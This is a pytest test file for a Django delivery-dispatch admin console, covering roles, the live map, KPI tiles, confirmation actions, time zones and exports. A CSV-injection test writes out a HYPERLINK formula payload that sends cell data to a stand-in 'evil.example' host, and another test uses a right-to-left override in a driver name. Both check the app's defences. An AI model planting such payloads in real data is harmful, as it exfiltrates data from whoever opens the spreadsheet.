"""The ops console without a browser: roles, the live map's state, the KPI dashboard, the
actions that ask first, the delivery page, the ops time zone and `/`."""
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from analytics.console import dashboard_kpis
from audit.models import DeliveryAuditLog
from availability.models import Driver
from common.actors import Actor
from common.errors import iso
from common.groups import groups_sync
from common.roles import DISPATCHER_GROUP, VIEWER_GROUP
from dispatch.models import Delivery, DeliveryStatus
from escalation.models import UnassignedOrder
from offers.models import DriverOffer
from tests.api import client_for
from tests.factories import (
    DeliveryFactory, DriverFactory, OfferFactory, OpsUserFactory, UserFactory, ZoneFactory, online_driver,
)
from workflows.deliveries import assignment_create
from workflows.dispatching import delivery_dispatch
from zones.models import DeliveryZone

pytestmark = pytest.mark.django_db


def staff_in(group_name: str, **kwargs):
    user = UserFactory(is_staff=True, **kwargs)
    user.groups.add(groups_sync()[group_name])
    client = Client()
    client.force_login(user)
    return user, client


# ------------------------------------------------------------------------------ roles


@pytest.mark.parametrize("url", [
    "/admin/common/user/", "/admin/common/apitoken/", "/admin/auth/group/",
    "/admin/django_celery_beat/periodictask/", "/admin/common/apitoken/add/",
])
def test_a_dispatcher_cannot_open_users_tokens_groups_or_the_schedule(url):
    _, client = staff_in(DISPATCHER_GROUP)
    assert client.get(url).status_code == 403


def test_a_dispatcher_runs_the_console_pages():
    _, client = staff_in(DISPATCHER_GROUP)
    delivery, zone, driver = DeliveryFactory(), ZoneFactory(), DriverFactory()
    for url in ("/admin/", "/admin/map/", "/admin/analytics/", "/admin/dispatch/delivery/",
                f"/admin/dispatch/delivery/{delivery.pk}/change/", "/admin/zones/deliveryzone/add/",
                f"/admin/zones/deliveryzone/{zone.pk}/change/", f"/admin/availability/driver/{driver.pk}/change/",
                "/admin/escalation/unassignedorder/", "/admin/escalation/supportticket/", "/admin/audit/deliveryauditlog/"):
        assert client.get(url).status_code == 200, url
    index = client.get("/admin/").content.decode()
    assert "Users" not in index and "Api tokens" not in index and "Periodic tasks" not in index
    actions = client.get("/admin/dispatch/delivery/").content.decode()
    assert 'value="cancel_deliveries"' in actions and 'value="assign_to_driver"' in actions


def test_a_dispatcher_runs_the_webhooks_pages_docs_notifications_md_promises():
    """Switch endpoints on and off, replay messages, read attempts, the outbox and customer
    messages: all were a 403 for the Dispatcher (only a superuser could)."""
    from notifications import services as webhooks
    from tests.factories import IntegrationUserFactory

    _, client = staff_in(DISPATCHER_GROUP)
    endpoint = webhooks.endpoint_create(owner=IntegrationUserFactory(), all_deliveries=False,
                                        url="https://hooks.example.com/h", events=["*"])
    for url in ("/admin/notifications/webhookendpoint/", f"/admin/notifications/webhookendpoint/{endpoint.pk}/change/",
                "/admin/notifications/webhookmessage/", "/admin/notifications/webhookattempt/",
                "/admin/notifications/outboxevent/", "/admin/notifications/customermessage/",
                "/admin/notifications/customerreply/", "/admin/notifications/customerreply/?received_within=1h"):
        assert client.get(url).status_code == 200, url
    page = client.get("/admin/notifications/webhookendpoint/").content.decode()
    assert 'value="replay_failed_since"' in page
    _, viewer = staff_in(VIEWER_GROUP)
    assert viewer.get("/admin/notifications/webhookmessage/").status_code == 200
    assert 'value="replay_failed_since"' not in viewer.get("/admin/notifications/webhookendpoint/").content.decode()


def test_a_dispatcher_who_is_not_a_superuser_passes_the_apis_ops_permission():
    user, _ = staff_in(DISPATCHER_GROUP)
    assert not user.is_superuser
    api = client_for(user)
    assert api.get("/v2/deliveries").status_code == 200
    assert api.get("/v2/admin/unassigned-orders").status_code == 200
    assert api.get("/v2/admin/live-map").status_code == 200


def test_a_viewer_reads_but_has_no_actions_and_cannot_change_anything():
    _, client = staff_in(VIEWER_GROUP)
    delivery = DeliveryFactory()
    assert client.get(f"/admin/dispatch/delivery/{delivery.pk}/change/").status_code == 200
    page = client.get("/admin/dispatch/delivery/").content.decode()
    assert 'value="cancel_deliveries"' not in page and 'value="dispatch_now"' not in page
    # even a hand-made POST of the action does nothing
    client.post("/admin/dispatch/delivery/", {"action": "cancel_deliveries", "_selected_action": [str(delivery.pk)],
                                              "apply": "1", "reason": "sneaky"})
    assert Delivery.objects.get(pk=delivery.pk).status == "ready"
    assert client.get("/admin/zones/deliveryzone/add/").status_code == 403
    assert client.get("/admin/common/user/").status_code == 403


def test_the_groups_are_exactly_what_the_roles_need_and_syncing_twice_changes_nothing():
    groups_sync()
    groups_sync()
    dispatcher = set(Group.objects.get(name=DISPATCHER_GROUP).permissions.values_list("codename", flat=True))
    viewer = set(Group.objects.get(name=VIEWER_GROUP).permissions.values_list("codename", flat=True))
    assert {"change_delivery", "view_delivery", "add_deliveryzone", "change_unassignedorder"} <= dispatcher
    assert not {c for c in dispatcher if c.endswith(("_user", "_apitoken", "_group", "_periodictask", "_permission"))}
    assert not {c for c in dispatcher if c.startswith("delete_") and c != "delete_driverzonepreference"}
    assert viewer and all(c.startswith("view_") for c in viewer)


def test_seed_demo_makes_ops_a_dispatcher_whose_password_login_still_gets_an_ops_token(client):
    call_command("seed_demo")
    ops = Delivery.objects.model._meta.get_field("created_by").related_model.objects.get(username="ops")
    assert ops.is_staff and not ops.is_superuser
    assert ops.groups.filter(name=DISPATCHER_GROUP).exists()
    token = client.post("/v2/auth/token", {"username": "ops", "password": "ops"}, content_type="application/json")
    assert token.status_code == 200, token.content
    api = Client(HTTP_AUTHORIZATION=f"Token {token.json()['token']}")
    assert api.get("/v2/deliveries").status_code == 200
    assert client.login(username="ops", password="ops")
    assert client.get("/admin/common/user/").status_code == 403
    assert client.get("/admin/").status_code == 200


# ------------------------------------------------------------------------------ live map


def test_the_live_map_is_for_staff_only(client):
    assert client.get("/admin/map/").status_code == 302  # to the login page
    assert client_for(UserFactory()).get("/v2/admin/live-map").status_code == 403
    page_client = Client()
    page_client.force_login(OpsUserFactory())
    page = page_client.get("/admin/map/").content.decode()
    assert 'id="ops-map"' in page and "/static/leaflet/leaflet.js" in page and '"socketPath": "/ws/ops/?locations=0"' in page


def test_the_live_map_state_has_drivers_open_deliveries_with_escalation_and_zones(ops):
    zone = ZoneFactory(name="Centre", bbox=(77.55, 12.93, 77.65, 13.02), min_drivers_online=3)
    DeliveryZone.objects.filter(pk=zone.pk).update(health_score=35, current_drivers_online=1)
    driver = DriverFactory(name="Asha Rao")
    busy = DriverFactory(name="Busy Bee")
    assigned = DeliveryFactory()
    assignment_create(delivery_id=assigned.pk, driver_id=busy.pk, actor=Actor.system())
    stranded = DeliveryFactory()
    delivery_dispatch(delivery_id=stranded.pk, actor=Actor.system())  # nobody in the GEO index: unassigned
    UnassignedOrder.objects.filter(delivery=stranded).update(escalation_level=2)
    DeliveryFactory(status=DeliveryStatus.DELIVERED)

    state = ops.get("/v2/admin/live-map").json()

    drivers = {d["driverId"]: d for d in state["drivers"]}
    assert drivers[str(driver.pk)]["name"] == "Asha Rao" and drivers[str(driver.pk)]["availability"] == "available"
    assert drivers[str(busy.pk)]["availability"] == "busy"
    assert drivers[str(busy.pk)]["availabilityChangedAt"] == iso(Driver.objects.get(pk=busy.pk).last_availability_change)
    deliveries = {d["deliveryId"]: d for d in state["deliveries"]}
    assert set(deliveries) == {str(assigned.pk), str(stranded.pk)}  # open ones only
    assert deliveries[str(assigned.pk)]["driverId"] == str(busy.pk) and not deliveries[str(assigned.pk)]["unassigned"]
    assert deliveries[str(stranded.pk)]["unassigned"] and deliveries[str(stranded.pk)]["escalationLevel"] == 2
    assert deliveries[str(assigned.pk)]["updatedAt"] == iso(Delivery.objects.get(pk=assigned.pk).updated_at)
    (centre,) = state["zones"]
    assert centre["health"] == "poor" and centre["belowMinimum"] and len(centre["polygon"]) == 5
    assert centre["polygon"][0] == [12.93, 77.55]  # [lat, lon], as Leaflet takes them
    assert centre["holes"] == [] and state["truncated"] == {"drivers": False, "deliveries": False}


def test_the_live_map_state_reads_each_delivery_with_its_driver_and_level_in_one_statement(django_assert_num_queries):
    """Read in three statements, a commit between them gave an in-transit delivery no driver,
    or a waiting one a driver (an audit: 35 of 2,828 rows while steps ran). One statement is one
    snapshot: drivers, deliveries (with their driver and escalation level), zones."""
    from analytics.console import live_map_state

    ZoneFactory(name="Centre")
    busy = DriverFactory()
    assigned, stranded = DeliveryFactory(), DeliveryFactory()
    assignment_create(delivery_id=assigned.pk, driver_id=busy.pk, actor=Actor.system())
    delivery_dispatch(delivery_id=stranded.pk, actor=Actor.system())

    with django_assert_num_queries(3):
        state = live_map_state(now=timezone.now())

    rows = {d["deliveryId"]: d for d in state["deliveries"]}
    assert (rows[str(assigned.pk)]["driverId"], rows[str(assigned.pk)]["unassigned"]) == (str(busy.pk), False)
    assert (rows[str(stranded.pk)]["driverId"], rows[str(stranded.pk)]["unassigned"]) == (None, True)
    assert rows[str(stranded.pk)]["escalationLevel"] == 0


def test_the_live_map_state_keeps_a_zones_holes_and_over_its_caps_the_drivers_at_work_and_the_oldest_deliveries(
        ops, monkeypatch):
    """The map drew a zone with a hole filled (its zone filter counted drivers in the hole); past
    its caps it kept drivers by id (offline ones with old fixes before those at work) and the
    newest deliveries (the oldest, most escalated, left out), and said nothing."""
    from django.contrib.gis.geos import Polygon

    from analytics import console

    donut = Polygon(((77.0, 12.0), (78.0, 12.0), (78.0, 13.0), (77.0, 13.0), (77.0, 12.0)),
                    ((77.4, 12.4), (77.6, 12.4), (77.6, 12.6), (77.4, 12.6), (77.4, 12.4)), srid=4326)
    ZoneFactory(name="Donut", geometry=donut)
    now = timezone.now()
    offline = DriverFactory(availability="offline", location_recorded_at=now)
    stale = DriverFactory(location_recorded_at=now - timedelta(minutes=10))
    fresh = DriverFactory(location_recorded_at=now - timedelta(seconds=5))
    oldest = DeliveryFactory(created_at=now - timedelta(minutes=30))
    DeliveryFactory(created_at=now - timedelta(minutes=1))
    monkeypatch.setattr(console, "LIVE_MAP_MAX_DRIVERS", 2)
    monkeypatch.setattr(console, "LIVE_MAP_MAX_DELIVERIES", 1)

    state = ops.get("/v2/admin/live-map").json()

    (zone,) = state["zones"]
    assert zone["holes"] == [[[12.4, 77.4], [12.4, 77.6], [12.6, 77.6], [12.6, 77.4], [12.4, 77.4]]]
    assert [d["driverId"] for d in state["drivers"]] == [str(fresh.pk), str(stale.pk)]
    assert str(offline.pk) not in {d["driverId"] for d in state["drivers"]}
    assert [d["deliveryId"] for d in state["deliveries"]] == [str(oldest.pk)]
    assert state["truncated"] == {"drivers": True, "deliveries": True}


# ------------------------------------------------------------------------------ dashboard


def test_the_dashboard_counts_what_ops_act_on():
    now = timezone.now()
    online_driver(km=20)  # available (far from the pickups below? no: 20 km is outside the 5 km radius)
    DriverFactory(availability="on_break")
    late = DeliveryFactory(status=DeliveryStatus.IN_TRANSIT)
    Delivery.objects.filter(pk=late.pk).update(eta_delivery_at=now - timedelta(minutes=5))
    stranded = DeliveryFactory()
    delivery_dispatch(delivery_id=stranded.pk, actor=Actor.system())
    quick = DeliveryFactory(ready_at=now - timedelta(seconds=90))
    assignment_create(delivery_id=quick.pk, driver_id=DriverFactory().pk, actor=Actor.system(), now=now)
    ZoneFactory(min_drivers_online=4)

    k = dashboard_kpis(now=now)

    assert k.unassigned_total == 1 and k.unassigned_by_level[0] == 1
    assert k.late_deliveries == 1
    assert k.drivers["available"] == 1 and k.drivers["busy"] == 1 and k.drivers["on_break"] == 1 and k.drivers["online"] == 2
    assert k.zones[0]["below"] and k.zones[0]["min"] == 4
    assert k.assigned_last_hour == 1 and 89 <= k.median_seconds_to_assign <= 91
    assert k.offers_in_flight == 0 and k.acceptance_rate is None


def test_the_admin_index_shows_the_kpi_tiles_with_links_to_their_lists(admin_client):
    DeliveryFactory()
    page = admin_client.get("/admin/").content.decode()
    for tile in ("kpi-unassigned", "kpi-late", "kpi-drivers", "kpi-zones", "kpi-offers", "kpi-acceptance",
                 "kpi-time-to-assign", "kpi-tickets"):
        assert f'id="{tile}"' in page, tile
    assert "/admin/escalation/unassignedorder/?open=yes&amp;escalation_level__exact=3" in page
    assert "/admin/dispatch/delivery/?late=yes" in page and 'href="/admin/map/"' in page
    for link in ("/admin/dispatch/delivery/?late=yes", "/admin/escalation/supportticket/?active=yes&priority__exact=urgent",
                 "/admin/availability/driver/?availability__exact=busy", "/admin/offers/driveroffer/?status__exact=PENDING"):
        assert admin_client.get(link).status_code == 200, link


def test_the_dashboard_tiles_read_the_same_a_few_seconds_later_when_nothing_changed(admin_client):
    """The live refresh swaps in the tiles whose HTML changed. The last hour's links carried the
    time they were rendered (`?created_at__gte=<an hour ago, to the second>`), so every refresh
    replaced those tiles under the pointer (and a browser test holding one went stale)."""
    import re

    import time_machine

    DeliveryFactory()

    def tiles():
        page = admin_client.get("/admin/").content.decode()
        return re.search(r'<div id="ops-kpis">.*?\n</div>', page, re.S).group(0)

    with time_machine.travel(timezone.now(), tick=False) as clock:
        first = tiles()
        clock.shift(timedelta(seconds=7))
        assert tiles() == first
    assert "/admin/offers/driveroffer/?created_within=1h" in first
    page = admin_client.get("/admin/").content.decode()
    regions = set(re.search(r'data-mode="swap" data-regions="([^"]+)"', page).group(1).split())
    assert set(re.findall(r'<section class="kpi" id="([^"]+)"', page)) | {"kpi-time"} == regions  # (each tile refreshes)
    assert "/admin/dispatch/delivery/?assigned_within=1h" in first


def test_the_last_hour_filters_count_back_from_when_the_list_is_opened(admin_client):
    now = timezone.now()
    recent, old = OfferFactory(), OfferFactory()
    DriverOffer.objects.filter(pk=recent.pk).update(created_at=now - timedelta(minutes=50))
    DriverOffer.objects.filter(pk=old.pk).update(created_at=now - timedelta(minutes=70))
    just, earlier = DeliveryFactory(seller_order_id="ORD-JUST"), DeliveryFactory(seller_order_id="ORD-EARLIER")
    Delivery.objects.filter(pk=just.pk).update(assigned_at=now - timedelta(minutes=59))
    Delivery.objects.filter(pk=earlier.pk).update(assigned_at=now - timedelta(hours=3))

    def ids(url):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        return {obj.pk for obj in response.context["cl"].result_list}

    assert ids("/admin/offers/driveroffer/?created_within=1h") == {recent.pk}
    assert ids("/admin/offers/driveroffer/?created_within=24h") == {recent.pk, old.pk}
    assert ids("/admin/dispatch/delivery/?assigned_within=1h") == {just.pk}
    assert ids("/admin/dispatch/delivery/?assigned_within=24h") == {just.pk, earlier.pk}
    everything = set(Delivery.objects.values_list("pk", flat=True))  # (the offers' deliveries too)
    assert ids("/admin/dispatch/delivery/?assigned_within=zzz") == everything  # (a tampered value: the whole list)
    page = admin_client.get("/admin/dispatch/delivery/").content.decode()
    assert "By assigned" in page and "In the last hour" in page


# ------------------------------------------------------------------------------ actions that ask first


def test_cancel_of_every_row_the_filters_match_carries_the_selection_not_an_id_per_row(settings, monkeypatch):
    """"Select all N" then cancel: the confirmation page carried one hidden id per row, and past
    DATA_UPLOAD_MAX_NUMBER_FIELDS (1,000; 40 here) its POST was a bare 400 and nothing was
    cancelled. It carries `select_across` (the list's filters are in the URL it posts back to)
    and lists the first rows only."""
    import re

    from common import admin_confirm

    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 40
    monkeypatch.setattr(admin_confirm, "SHOWN", 10)
    user, client = staff_in(DISPATCHER_GROUP)
    ready = [DeliveryFactory() for _ in range(45)]
    other = DeliveryFactory(status="picked_up")  # outside the filter: left alone
    url = "/admin/dispatch/delivery/?status__exact=ready"

    confirm = client.post(url, {"action": "cancel_deliveries", "select_across": "1", "index": "0",
                                "_selected_action": [str(ready[0].pk)]})
    page = confirm.content.decode()
    assert confirm.status_code == 200 and 'id="confirm-action"' in page
    assert page.count("<li data-pk=") == 10 and "… and 35 more (45 in all" in page
    hidden = re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', page)
    assert len(hidden) < 10

    data = {}
    for name, value in hidden:
        data.setdefault(name, []).append(value)
    confirmed = {**data, "apply": "1", "reason": "Storm: the city is closed"}

    # a delivery the page did not list comes to match the filter before the click: nothing is
    # done (the filters are read again at the click), the page is shown again with the new rows
    late = DeliveryFactory()
    again = client.post(url, confirmed)
    page = again.content.decode()
    assert again.status_code == 200 and "The list changed since this page was shown (it now matches 46 rows)" in page
    assert not Delivery.objects.filter(status="cancelled").exists()
    Delivery.objects.filter(pk=late.pk).update(status="picked_up")  # (it leaves the list again)

    done = client.post(url, confirmed, follow=True)

    assert done.status_code == 200 and "Cancelled 45 deliveries." in done.content.decode()
    assert Delivery.objects.filter(status="cancelled").count() == 45
    assert Delivery.objects.get(pk=other.pk).status == "picked_up"

    # past ACROSS_MAX rows, "select all" is refused with a message, before any page
    monkeypatch.setattr(admin_confirm, "ACROSS_MAX", 3)
    for _ in range(4):
        DeliveryFactory()
    refused = client.post(url, {"action": "cancel_deliveries", "select_across": "1", "index": "0",
                                "_selected_action": [str(Delivery.objects.filter(status="ready").first().pk)]}, follow=True)
    assert "4 rows selected: at most 3 at once. Nothing was done" in refused.content.decode()
    assert Delivery.objects.filter(status="ready").count() == 4


def test_cancel_asks_for_a_reason_and_records_it_with_the_dispatcher(django_capture_on_commit_callbacks):
    user, client = staff_in(DISPATCHER_GROUP, first_name="Dina", last_name="Patcher")
    delivery = DeliveryFactory()
    selected = {"action": "cancel_deliveries", "_selected_action": [str(delivery.pk)]}

    confirm = client.post("/admin/dispatch/delivery/", selected)
    assert confirm.status_code == 200 and 'id="confirm-action"' in confirm.content.decode()
    blank = client.post("/admin/dispatch/delivery/", {**selected, "apply": "1", "reason": "   "})
    assert blank.status_code == 200 and "This field is required" in blank.content.decode()
    assert Delivery.objects.get(pk=delivery.pk).status == "ready"

    with django_capture_on_commit_callbacks(execute=True):
        done = client.post("/admin/dispatch/delivery/", {**selected, "apply": "1", "reason": "Customer phoned to cancel"}, follow=True)

    assert "Cancelled 1 delivery." in done.content.decode()
    delivery.refresh_from_db()
    assert delivery.status == "cancelled" and delivery.cancellation_reason == "Customer phoned to cancel"
    audit = DeliveryAuditLog.objects.get(delivery=delivery, event_type="delivery_cancelled")
    assert audit.actor_id == user.pk and audit.details["reason"] == "Customer phoned to cancel"


def test_the_webhook_of_a_console_action_carries_utc_times_not_the_consoles():
    """The console shows OPS_TIME_ZONE (+05:30 here); the webhook its cancel writes was rendered
    in it: `readyAt` "…+05:30" beside `changedAt` "…Z". docs/api.md: UTC with a Z."""
    from notifications.models import OutboxEvent

    _, client = staff_in(DISPATCHER_GROUP)
    delivery = DeliveryFactory()
    selected = {"action": "cancel_deliveries", "_selected_action": [str(delivery.pk)], "apply": "1", "reason": "Shop shut"}
    assert client.post("/admin/dispatch/delivery/", selected).status_code == 302

    data = OutboxEvent.objects.get(delivery_id=delivery.pk, type="delivery.status_changed").payload["data"]
    assert data["status"] == "cancelled"
    times = {key: data[key] for key in ("readyAt", "createdAt", "updatedAt", "cancelledAt")}
    assert all(value.endswith("Z") for value in times.values()), times
    assert data["change"]["changedAt"].endswith("Z")


def test_reassign_asks_for_a_reason_and_passes_it_to_the_workflow():
    _, client = staff_in(DISPATCHER_GROUP)
    delivery, first = DeliveryFactory(), DriverFactory()
    assignment_create(delivery_id=delivery.pk, driver_id=first.pk, actor=Actor.system())
    selected = {"action": "reassign_deliveries", "_selected_action": [str(delivery.pk)]}

    assert 'id="confirm-action"' in client.post("/admin/dispatch/delivery/", selected).content.decode()
    assert Delivery.objects.get(pk=delivery.pk).status == "assigned"
    client.post("/admin/dispatch/delivery/", {**selected, "apply": "1", "reason": "Driver's scooter broke down"})

    audit = DeliveryAuditLog.objects.get(delivery=delivery, event_type="assignment_reassigned")
    assert audit.details["reason"] == "Driver's scooter broke down"
    first.refresh_from_db()
    assert first.availability == "available"


def test_assign_to_driver_on_a_delivery_no_longer_ready_says_so_at_once():
    """It listed the nearby drivers, and only the submit said the delivery was cancelled (an audit)."""
    from workflows.deliveries import delivery_cancel

    _, client = staff_in(DISPATCHER_GROUP)
    online_driver(km=0.5, name="Near Nadia")
    delivery = DeliveryFactory(seller_order_id="ORD-GONE")
    delivery_cancel(delivery_id=delivery.pk, reason="customer", actor=Actor.system())

    page = client.post("/admin/dispatch/delivery/", {"action": "assign_to_driver", "_selected_action": [str(delivery.pk)]},
                       follow=True).content.decode()

    assert "ORD-GONE: Delivery is cancelled; only a ready delivery can be offered." in page and "Near Nadia" not in page


def test_assign_to_driver_lists_nearby_available_drivers_by_distance_and_offers_through_the_workflow():
    _, client = staff_in(DISPATCHER_GROUP)
    near = online_driver(km=0.5, name="Near Nadia")
    far = online_driver(km=3, name="Far Farid")
    online_driver(km=40, name="Out Of Town")
    DriverFactory(name="Resting Ravi", availability="on_break")
    delivery = DeliveryFactory()
    selected = {"action": "assign_to_driver", "_selected_action": [str(delivery.pk)]}

    page = client.post("/admin/dispatch/delivery/", selected).content.decode()
    assert page.index("Near Nadia · 0.5 km") < page.index("Far Farid · 3.0 km")
    assert "Out Of Town" not in page and "Resting Ravi" not in page

    done = client.post("/admin/dispatch/delivery/", {**selected, "apply": "1", "driver": str(far.pk)}, follow=True)

    offer = DriverOffer.objects.get(delivery=delivery)
    assert offer.driver_id == far.pk and offer.status == "PENDING"
    # the expiry in the console's time zone, as every time there (it said UTC)
    from zoneinfo import ZoneInfo
    local = offer.expires_at.astimezone(ZoneInfo("Asia/Kolkata"))
    assert f"offered to Far Farid; the driver has until {local:%H:%M:%S} IST to accept" in done.content.decode()
    assert DeliveryAuditLog.objects.filter(delivery=delivery, event_type="driver_offer_sent").exists()
    assert near.pk != far.pk


def test_assign_to_driver_leaves_out_drivers_holding_a_pending_offer():
    """An offer to such a driver is always refused (one pending offer a driver), and the list put
    them first (0.0 km: waiting at the store for the offer they hold; a page audit)."""
    _, client = staff_in(DISPATCHER_GROUP)
    holding = online_driver(km=0.1, name="Holding Hema")
    free = online_driver(km=2, name="Free Farah")
    OfferFactory(driver=holding, delivery=DeliveryFactory())
    delivery = DeliveryFactory()
    selected = {"action": "assign_to_driver", "_selected_action": [str(delivery.pk)]}

    page = client.post("/admin/dispatch/delivery/", selected).content.decode()

    assert "Free Farah · 2.0 km" in page and "Holding Hema" not in page
    assert free.pk != holding.pk


def test_assign_to_driver_leaves_out_drivers_whose_login_is_deactivated():
    """Freed from a delivery it kept, such a driver is available until the stale-driver job's
    next run; the offer would be refused (it cannot answer one)."""
    _, client = staff_in(DISPATCHER_GROUP)
    inactive = online_driver(km=0.1, name="Gone Gita")
    online_driver(km=2, name="Free Farah")
    get_user_model().objects.filter(pk=inactive.user_id).update(is_active=False)
    selected = {"action": "assign_to_driver", "_selected_action": [str(DeliveryFactory().pk)]}

    page = client.post("/admin/dispatch/delivery/", selected).content.decode()

    assert "Free Farah · 2.0 km" in page and "Gone Gita" not in page


def test_bidirectional_text_controls_in_a_name_do_not_reorder_the_consoles_sentences():
    """A driver named with a right-to-left override turned the timeline's "Offered to …" and the
    assign list's "· 0.5 km" around (a page audit): in the console's sentences and labels such a
    name loses its controls and is isolated (FSI … PDI). Other names are shown as they are."""
    _, client = staff_in(DISPATCHER_GROUP)
    tricky = online_driver(km=0.5, name="Ravi \u202eevil")
    online_driver(km=1, name="Plain Priya")
    delivery = DeliveryFactory()
    selected = {"action": "assign_to_driver", "_selected_action": [str(delivery.pk)]}

    page = client.post("/admin/dispatch/delivery/", selected).content.decode()
    assert "\u2068Ravi evil\u2069 · 0.5 km" in page and "Plain Priya · 1.0 km" in page and "\u202e" not in page

    client.post("/admin/dispatch/delivery/", {**selected, "apply": "1", "driver": str(tricky.pk)})
    page = client.get(f"/admin/dispatch/delivery/{delivery.pk}/change/").content.decode()
    assert "Offered to \u2068Ravi evil\u2069" in page


def test_service_only_fields_are_read_only():
    _, client = staff_in(DISPATCHER_GROUP)
    delivery, driver = DeliveryFactory(), DriverFactory()
    page = client.get(f"/admin/dispatch/delivery/{delivery.pk}/change/").content.decode()
    for name in ("pickup_location", "dropoff_location", "eta_delivery_at", "zone", "current_offer", "accepted_offer", "status"):
        assert f'name="{name}"' not in page, name
    assert 'name="_save"' not in page and 'name="_continue"' not in page  # nothing to save here
    driver_page = client.get(f"/admin/availability/driver/{driver.pk}/change/").content.decode()
    for name in ("location", "rating", "availability", "location_recorded_at"):
        assert f'name="{name}"' not in driver_page, name
    assert 'name="home_location"' in driver_page and 'name="name"' in driver_page


# ------------------------------------------------------------------------------ readable records, time zone, /


def test_the_delivery_page_has_a_timeline_in_words_in_the_ops_time_zone_and_the_tracking_link():
    user, client = staff_in(DISPATCHER_GROUP, first_name="Dina", last_name="Patcher")
    delivery, driver = DeliveryFactory(), DriverFactory(name="Maria Lopez")
    assignment_create(delivery_id=delivery.pk, driver_id=driver.pk, actor=Actor.for_user(user))

    page = client.get(f"/admin/dispatch/delivery/{delivery.pk}/change/").content.decode()

    assert 'id="delivery-timeline"' in page and "Assigned to Maria Lopez" in page and "Dina Patcher (ops)" in page
    assert "time (Asia/Kolkata)" in page and " IST</time>" in page
    assert delivery.tracking_url.replace("&", "&amp;") in page
    assert 'id="delivery-map"' in page and "Maria Lopez" in page


def test_the_api_stays_utc_while_the_console_shows_ops_time(ops, admin_client):
    delivery = DeliveryFactory()
    body = ops.get(f"/v2/deliveries/{delivery.pk}").json()
    assert body["createdAt"].endswith("Z") or body["createdAt"].endswith("+00:00")
    assert "Asia/Kolkata" in admin_client.get("/admin/").content.decode()


def test_root_sends_staff_to_the_console_and_everyone_else_to_the_docs(client, admin_client):
    assert client.get("/")["Location"] == "/v2/docs/"
    assert admin_client.get("/")["Location"] == "/admin/"


def test_api_docs_pages_render_from_the_sidecar(client):
    for url in ("/v2/docs/", "/v2/redoc/"):
        page = client.get(url)
        assert page.status_code == 200 and b"drf_spectacular_sidecar" in page.content, url


# ------------------------------------------------------------------------------ exports


def test_deliveries_export_as_csv_with_the_lists_filters_applied():
    _, client = staff_in(DISPATCHER_GROUP)
    DeliveryFactory(seller_order_id="ORD-KEPT", status=DeliveryStatus.CANCELLED)
    DeliveryFactory(seller_order_id="ORD-FILTERED-OUT")
    form = {"format": "0", "resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_status": "on"}

    response = client.post("/admin/dispatch/delivery/export/?status__exact=cancelled", form)

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    # with a byte-order mark: Excel read UTF-8 without one as the ANSI code page (names garbled)
    assert response.content.startswith(b"\xef\xbb\xbf")
    body = response.content.decode("utf-8-sig")
    assert body.splitlines()[0].strip() == "seller_order_id,status"
    assert "ORD-KEPT,cancelled" in body and "ORD-FILTERED-OUT" not in body


@pytest.mark.parametrize("url", [
    "/admin/dispatch/delivery/export/", "/admin/availability/driver/export/", "/admin/analytics/deliverycost/export/",
])
def test_an_export_needs_the_lists_view_permission(url):
    """A staff login in no group (no view permission: its list is a 403) downloaded every row."""
    DeliveryFactory(seller_order_id="ORD-SECRET")
    nobody = UserFactory(is_staff=True)
    client = Client()
    client.force_login(nobody)

    assert client.get(url.removesuffix("export/")).status_code == 403
    assert client.get(url).status_code == 403
    assert client.post(url, {"format": "0", "resource": "0"}).status_code == 403
    _, viewer = staff_in(VIEWER_GROUP)
    assert viewer.get(url).status_code == 200


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
    """OWASP "CSV injection": a seller's store name `=HYPERLINK(...)` must not become a live
    formula on the ops laptop that opens the export (CSV or XLSX)."""
    from io import BytesIO

    from openpyxl import load_workbook

    _, client = staff_in(DISPATCHER_GROUP)
    DeliveryFactory(seller_order_id="ORD-F1", store_name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    DeliveryFactory(seller_order_id="ORD-F2", store_name="+1-555 Corner Shop")
    DeliveryFactory(seller_order_id="-ORD-F3", store_name="@SUM(A1:A9)")
    DeliveryFactory(seller_order_id="-3.50", store_name="-12")  # numbers as CSV writes them: values, left as they are
    # what Python's float() takes but a spreadsheet does not read as a number (it was left bare)
    DeliveryFactory(seller_order_id="ORD-F4", store_name="-inf")
    DeliveryFactory(seller_order_id="ORD-F5", store_name="-1_000")
    form = {"resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_store_name": "on"}

    DeliveryFactory(seller_order_id="ORD-F6", store_name="Bell\x07 Stores")  # (XML holds no control characters)
    csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode("utf-8-sig")
    xlsx = client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"})
    sheet = load_workbook(BytesIO(xlsx.content)).active

    assert "'=HYPERLINK" in csv and "'+1-555 Corner Shop" in csv and "'-ORD-F3,'@SUM(A1:A9)" in csv
    assert "\n-3.50,-12" in csv and "ORD-F4,'-inf" in csv and "ORD-F5,'-1_000" in csv
    # XLSX: text cells, as they are (escaped with `'`, a spreadsheet showed the apostrophe)
    assert xlsx.status_code == 200
    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    texts = {'=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-555 Corner Shop", "@SUM(A1:A9)", "-ORD-F3", "ORD-F1",
             "Bell\ufffd Stores"}
    assert texts <= cells.keys() and {cells[text] for text in texts} == {"s"}
    assert not any(str(value).startswith("'") for value in cells)


def test_driver_performance_and_costs_export_as_xlsx():
    from io import BytesIO

    from openpyxl import load_workbook

    _, client = staff_in(DISPATCHER_GROUP)
    DriverFactory(name="Perf Pia")
    page = client.get("/admin/availability/driver/export/")
    assert page.status_code == 200 and "XLSX" in page.content.decode().upper()
    response = client.post("/admin/availability/driver/export/", {
        "format": "1", "resource": "0", "driverperformanceexport_name": "on",
        "driverperformanceexport_deliveries_completed": "on", "driverperformanceexport_total_earnings": "on",
    })
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("name", "deliveries_completed", "total_earnings") and rows[1][0] == "Perf Pia"
